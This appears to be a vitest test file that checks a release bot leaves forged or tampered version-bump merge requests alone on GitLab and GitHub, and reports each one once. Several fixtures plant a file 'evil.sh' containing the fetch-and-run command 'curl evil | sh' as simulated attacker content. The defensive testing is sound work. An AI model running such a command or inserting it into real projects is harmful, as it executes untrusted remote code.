import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { SimForge, SimMergeRequest } from '../../packages/forge-sandbox/src/core/model.js';
import { writePart } from '../reliability/support/figures.js';
import { api } from '../reliability/support/crash-scenarios.js';
import { jobHarness, type JobHarness } from '../helpers/job-harness.js';

/**
 * Provenance of the bump MR (issue 27): update-component adopts, approves, auto-merges or
 * force-pushes over only an MR its own user opened from its branch to the configured target,
 * whose head is its one commit changing the version file only. Each attack is tried on both
 * forges through the real clients: a developer's look-alike MR with the right version plus
 * another file (the case from the issue), the bot's MR with its commit replaced by another
 * author's, an extra commit pushed on top, a bot MR to another target, and a look-alike branch
 * without MR. Every one is left alone, reported on Slack and Sentry once, with how to resolve it.
 */

const HOUR = 3_600_000;
const BRANCH = 'release-bot/update-gitaly';
/** One forge per test file: the Sentry SDK is one per process. */
export function provenanceSuite(forge: SimForge): void {
  describe(`bump MR provenance on ${forge}`, () => {
    const cases = { checked: 0, held: 0 };
    let h: JobHarness;
    let mallory = '';
    let approver = '';
    let green = '';
    const mr = forge === 'gitlab' ? 'MR' : 'PR';

    const target = () => h.sim.project(forge, 'org/app');
    const mrs = () => h.sim.world.mergeRequests.filter((m) => m.projectId === target().id);
    const open = () => mrs().filter((m) => m.state === 'opened');
    const run = async () => (await h.run('update-component')).run;

    /** Opens an MR/PR from BRANCH with `token` through the forge API, as a person would. */
    async function openMr(token: string, base = 'main'): Promise<SimMergeRequest> {
      const p = target();
      if (forge === 'gitlab')
        await api(h.sim, forge, token, 'POST', `/projects/${p.id}/merge_requests`, {
          source_branch: BRANCH,
          target_branch: base,
          title: 'Update gitaly version',
        });
      else
        await api(h.sim, forge, token, 'POST', '/repos/org/app/pulls', {
          head: BRANCH,
          base,
          title: 'Update gitaly version',
        });
      return open().at(-1)!;
    }

    /** Closes every MR and deletes the branch: what the bot's advice asks a human to do. */
    async function resolve(): Promise<void> {
      for (const m of open()) m.state = 'closed';
      await target().repo.deleteRef(`refs/heads/${BRANCH}`);
    }

    /** Nothing the bot did not write moved: not merged, no auto-merge, no approval, head unchanged. */
    async function expectLeftAlone(m: SimMergeRequest, head: string, problem: RegExp): Promise<void> {
      const reports = () => h.slack.messages.filter((x) => x.payload.text?.includes('did not make'));
      const events = () =>
        h.sentry!.events().filter((e) => JSON.stringify(e).includes("is not the bot's own"));
      const before = reports().length;
      const sentryBefore = events().length;
      const first = await run();
      await h.sim.advance(HOUR);
      const second = await run();
      await h.sim.advance(HOUR);
      cases.checked++;
      expect(await target().repo.readFile('main', 'evil.sh')).toBeNull();
      expect(m.state).toBe('opened');
      expect(m.autoMerge ?? null).toBeNull();
      expect(m.approvedBy).toEqual([]);
      expect(await target().repo.branchSha(BRANCH)).toBe(head);
      expect(open()).toHaveLength(1);
      expect(first.summary).toContain("is not the bot's own");
      expect(first.summary).toMatch(problem);
      expect(second.summary).toContain("is not the bot's own");
      // reported once (Slack and Sentry), with what to do about it
      const said = reports().slice(before);
      expect(said).toHaveLength(1);
      expect(said[0]!.payload.text).toContain('holds changes the bot did not make');
      expect(JSON.stringify(said[0]!.payload)).toContain(`delete branch ${BRANCH}`);
      expect(events().length - sentryBefore).toBe(1);
      cases.held++;
    }

    beforeAll(async () => {
      h = await jobHarness({
        sentry: true,
        seed: async (sim) => {
          mallory = sim.createUser('mallory').token;
          approver = sim.createUser('approver').token;
          const gitaly = await sim.createProject({ forge, path: 'org/gitaly', members: ['release-bot:20'] });
          const root = (await gitaly.repo.branchSha(gitaly.defaultBranch))!;
          await sim.ci.createPipeline({
            project: gitaly,
            ref: gitaly.defaultBranch,
            sha: root,
            userId: 1,
            outcome: { result: 'success' },
          });
          await sim.createProject({
            forge,
            path: 'org/app',
            defaultBranch: 'main',
            members: ['release-bot:40', 'mallory:30', 'approver:40'],
            files: { VERSION: `${root}\n`, 'README.md': '# app\n' },
            protectedBranches: ['main'],
          });
          await sim.advance(HOUR);
        },
        jobsConfig: () => ({
          'update-component': {
            slackChannel: 'releases',
            components: [
              {
                name: 'gitaly',
                source: { forge, project: 'org/gitaly' },
                target: { forge, project: 'org/app', versionFile: 'VERSION' },
                approverToken: approver,
              },
            ],
          },
        }),
      });
      green = await h.sim.push({ forge, project: 'org/gitaly', files: { 'a.go': 'a' }, message: 'Add a' });
      await h.sim.advance(HOUR);
    });
    afterAll(() => h?.close());

    it(`leaves a developer's look-alike ${mr} (right version plus another file, one commit) alone`, async () => {
      // the attack of issue 27: one commit, the right version file and a file of their own
      const head = await h.sim.push({
        forge,
        project: 'org/app',
        branch: BRANCH,
        files: { VERSION: `${green}\n`, 'evil.sh': 'curl evil | sh\n' },
        message: 'Update gitaly version',
        username: 'mallory',
      });
      const m = await openMr(mallory);
      await expectLeftAlone(m, head, /opened by @mallory.*changes evil\.sh besides VERSION/);
      await resolve();
    });

    it(`leaves a ${mr} alone whose only commit, version file only, another author wrote`, async () => {
      expect((await run()).status).toBe('ok');
      const m = open()[0]!;
      // mallory replaces the bot's commit by her own, exactly the same change
      const head = await h.sim.world.commit({
        project: target(),
        branch: BRANCH,
        files: { VERSION: `${green}\n` },
        message: 'Update gitaly version',
        userId: h.sim.world.userByName('mallory')!.id,
        startFrom: 'main',
        force: true,
      });
      await expectLeftAlone(m, head, /not authored by the bot/);
      await resolve();
    });

    it(`leaves the bot's ${mr} alone once someone pushed another commit on top`, async () => {
      expect((await run()).status).toBe('ok');
      const m = open()[0]!;
      const head = await h.sim.push({
        forge,
        project: 'org/app',
        branch: BRANCH,
        files: { 'evil.sh': 'curl evil | sh\n' },
        message: 'one more thing',
        username: 'mallory',
      });
      await expectLeftAlone(m, head, /2 commits on top of main/);
      await resolve();
    });

    it(`leaves a ${mr} of the bot's branch to another target branch alone`, async () => {
      const p = target();
      await p.repo.updateRef('refs/heads/release', (await p.repo.branchSha('main'))!);
      const head = await h.sim.world.commit({
        project: p,
        branch: BRANCH,
        files: { VERSION: `${green}\n` },
        message: 'Update gitaly version',
        userId: h.sim.world.userByName('release-bot')!.id,
        startFrom: 'main',
      });
      // opened with the bot's own token: only the target is wrong
      const m = await openMr(h.botToken, 'release');
      await expectLeftAlone(m, head, /targets release, not the configured main/);
      await resolve();
    });

    it('does not open an MR from, or reset, a look-alike branch without MR', async () => {
      const head = await h.sim.push({
        forge,
        project: 'org/app',
        branch: BRANCH,
        files: { VERSION: `${green}\n`, 'evil.sh': 'curl evil | sh\n' },
        message: 'Update gitaly version',
        username: 'mallory',
      });
      const reports = () => h.slack.messages.filter((x) => x.payload.text?.includes('did not make'));
      const before = reports().length;
      const first = await run();
      const second = await run();
      cases.checked++;
      expect(first.summary).toContain(`branch ${BRANCH}`);
      expect(first.summary).toContain("is not the bot's own");
      expect(second.summary).toContain("is not the bot's own");
      expect(open()).toHaveLength(0);
      expect(await target().repo.branchSha(BRANCH)).toBe(head);
      expect(reports().slice(before)).toHaveLength(1);
      cases.held++;
      await resolve();
    });

    it(`opens a fresh ${mr} of its own once the humans resolved it, and merges it`, async () => {
      const first = await run();
      expect(first.status).toBe('ok');
      const m = open()[0]!;
      expect(m.authorId).toBe(h.sim.world.userByName('release-bot')!.id);
      for (let i = 0; i < 4 && m.state === 'opened'; i++) {
        await h.sim.advance(HOUR);
        await run();
      }
      expect(m.state).toBe('merged');
      expect((await target().repo.readFile('main', 'VERSION'))?.toString()).toBe(`${green}\n`);
      expect(await target().repo.readFile('main', 'evil.sh')).toBeNull();
      writePart(`security-provenance-${forge}`, {
        summary: `provenance (${forge}): ${cases.held}/${cases.checked} foreign bump MRs/branches left alone and reported once (look-alike with an extra file, another author, an extra commit, another target, a branch without MR)`,
        checked: cases.checked,
        held: cases.held,
      });
    });
  });
}
